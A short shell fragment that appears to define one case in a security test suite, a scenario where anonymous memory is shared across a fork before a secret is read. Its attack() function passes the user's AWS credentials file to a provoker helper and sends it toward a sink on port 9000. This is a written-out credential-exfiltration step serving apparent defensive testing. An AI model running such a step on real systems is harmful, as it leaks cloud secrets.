# SPDX-License-Identifier: Apache-2.0
TITLE="anonymous memory shared over fork, mapped before the secret is read"
ROW="I11 E21"
attack() { "$PROVOKE/shm" anon "$HOME/.aws/credentials" "$SINK4" 9000; }
